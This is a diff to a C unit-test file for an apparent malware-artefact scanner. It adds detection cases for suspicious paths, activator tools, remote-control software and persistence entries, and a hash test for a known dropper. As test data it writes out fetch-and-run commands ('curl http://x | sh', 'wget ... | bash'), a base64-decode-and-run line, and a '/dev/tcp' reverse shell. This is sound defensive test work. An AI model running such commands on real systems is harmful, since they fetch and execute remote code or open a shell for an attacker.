@@ -4,6 +4,7 @@
 
 #include "artefact/match.h"
 #include "content/shipped.h"
+#include "crypto/digest.h"
 
 #include <string.h>
 
@@ -94,6 +95,30 @@ static void files_are_found_where_they_are_wrong(void **state)
 	    {"/home/an/Downloads/gca01-client-v2-x64-8.3.msi", "x",
 	     "installer_of_that_version"},
 	    {"/home/an/Downloads/gca01-client-v2-x64-8.4.msi", "x", ""},
+	    {"/dev/shm/a/b",
+	     "\x7f"
+	     "ELF",
+	     "program_in_shared_memory"},
+	    {"/dev/shm/a", "text", ""},
+	    {"/tmp/.x/run",
+	     "\x7f"
+	     "ELF",
+	     "hidden_program_in_tmp"},
+	    {"/tmp/x/run",
+	     "\x7f"
+	     "ELF",
+	     ""},
+	    {"C:\\Users\\an\\Music\\svchost.exe", "MZ", "system_name_in_wrong_folder"},
+	    {"C:\\Windows\\System32\\svchost.exe", "MZ", ""},
+	    {"C:\\Users\\an\\Downloads\\giay moi.pdf.exe", "MZ",
+	     "program_with_two_endings"},
+	    {"C:\\Users\\an\\Downloads\\pdf.exe", "MZ", ""},
+	    {"/mnt/c/Tools/KMSAuto Net.exe", "MZ", "activator_tool"},
+	    {"/mnt/c/Tools/KMS.exe", "MZ", ""},
+	    {"C:\\Users\\an\\Downloads\\abc-keygen.exe", "MZ", "cracked_tool"},
+	    {"C:\\Program Files\\Git\\usr\\bin\\ssh-keygen.exe", "MZ", ""},
+	    {"C:\\Program Files\\AnyDesk\\AnyDesk.exe", "MZ", "remote_control"},
+	    {"C:\\Program Files\\AnyDesk\\readme.txt", "x", ""},
 	};
 
 	(void)state;
@@ -158,6 +183,37 @@ static void start_points_are_found_by_what_they_run(void **state)
 	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 18465, ""},
 	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 18506, ""},
 	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 0, ""},
+	    {ARTEFACT_PERSISTENCE, "ld.so.preload", "/usr/lib/x.so", "", 0,
+	     "preloaded_library"},
+	    {ARTEFACT_PERSISTENCE, "a.conf", "/usr/lib/x.so", "", 0, ""},
+	    {ARTEFACT_TASK, "an", "curl http://x | sh", "hourly", 0,
+	     "task_fetches_and_runs"},
+	    {ARTEFACT_TASK, "an", "wget -qO- http://x |bash -s", "hourly", 0,
+	     "task_fetches_and_runs"},
+	    {ARTEFACT_TASK, "an", "curl http://x | sha256sum", "hourly", 0, ""},
+	    {ARTEFACT_PERSISTENCE, ".bashrc", "curl -s x | bash", "", 0,
+	     "start_fetches_and_runs"},
+	    {ARTEFACT_PERSISTENCE, ".bashrc", "alias w='curl wttr.in'", "", 0, ""},
+	    {ARTEFACT_PERSISTENCE, "rc.local", "echo eA== | base64 -d | sh", "", 0,
+	     "start_decodes_and_runs"},
+	    {ARTEFACT_PERSISTENCE, "rc.local", "echo eA== | base64 -d > key", "", 0,
+	     ""},
+	    {ARTEFACT_PERSISTENCE, "rc.local", "bash -i >& /dev/tcp/1.2.3.4/5", "", 0,
+	     "start_opens_a_shell"},
+	    {ARTEFACT_PERSISTENCE, "rc.local", "echo > /dev/tty1", "", 0, ""},
+	    {ARTEFACT_SERVICE, "a", "/tmp/x --daemon", "", 0,
+	     "service_from_temporary_folder"},
+	    {ARTEFACT_SERVICE, "a", "/usr/bin/x /tmp/y", "", 0, ""},
+	    {ARTEFACT_TASK, "a", "/dev/shm/x", "hourly", 0,
+	     "task_from_temporary_folder"},
+	    {ARTEFACT_TASK, "a", "find /tmp -delete", "hourly", 0, ""},
+	    {ARTEFACT_PERSISTENCE, "a", "/home/an/.x/run", "logon", 0,
+	     "hidden_autostart"},
+	    {ARTEFACT_PERSISTENCE, "a", "/usr/bin/run", "logon", 0, ""},
+	    {ARTEFACT_TASK, "\\AutoKMS", "x", "daily", 0, "activator_task"},
+	    {ARTEFACT_TASK, "\\AutoBackup", "x", "daily", 0, ""},
+	    {ARTEFACT_INSTALLED, "anydesk", "", "", 0, "remote_control_package"},
+	    {ARTEFACT_INSTALLED, "anything", "", "", 0, ""},
 	};
 
 	(void)state;
@@ -169,6 +225,28 @@ static void start_points_are_found_by_what_they_run(void **state)
 		if (strcmp(found, cases[i].found) != 0)
 			fail_msg("%s %s: %s", cases[i].name, cases[i].command, found);
 	}
+}
+
+/* The known dropper, with a digest that a test can have. */
+static void the_known_dropper_is_not_the_other_one(void **state)
+{
+	static const char path[] = "C:\\Program Files\\VGCA\\Authentication\\SAC\\x32\\"
+				   "eToken.exe";
+	uint8_t sha256[32];
+
+	(void)state;
+	assert_int_equal(digest_of(DIGEST_SHA256, BYTES_LITERAL("dropper"), sha256),
+			 RQ_OK);
+	for (size_t i = 0; i < set.n; i++) {
+		struct artefact_entry *entry = &set.entries[i];
+
+		if (entry->digests.n > 0)
+			memcpy(entry->digests.items[0], sha256, sizeof sha256);
+		if (entry->not_digests.n > 0)
+			memcpy(entry->not_digests.items[0], sha256, sizeof sha256);
+	}
+	assert_string_equal(found_in(path, "dropper", true), "known_etoken");
+	assert_string_equal(found_in(path, "another", true), "other_etoken");
 }
 
 static void a_listed_digest_tells_the_known_file_from_another(void **state)
@@ -201,12 +279,10 @@ static void a_listed_digest_tells_the_known_file_from_another(void **state)
 	assert_int_equal(hits.n, 1);
 }
 
-TEST_MAIN(
-    cmocka_unit_test_setup_teardown(files_are_found_where_they_are_wrong, read_packs,
-				    forget_packs),
-    cmocka_unit_test_setup_teardown(a_file_that_cannot_be_read_is_found_by_its_name,
-				    read_packs, forget_packs),
-    cmocka_unit_test_setup_teardown(start_points_are_found_by_what_they_run, read_packs,
-				    forget_packs),
-    cmocka_unit_test_setup_teardown(a_listed_digest_tells_the_known_file_from_another,
-				    read_packs, forget_packs))
+#define CASE(test) cmocka_unit_test_setup_teardown(test, read_packs, forget_packs)
+
+TEST_MAIN(CASE(files_are_found_where_they_are_wrong),
+	  CASE(a_file_that_cannot_be_read_is_found_by_its_name),
+	  CASE(start_points_are_found_by_what_they_run),
+	  CASE(the_known_dropper_is_not_the_other_one),
+	  CASE(a_listed_digest_tells_the_known_file_from_another))
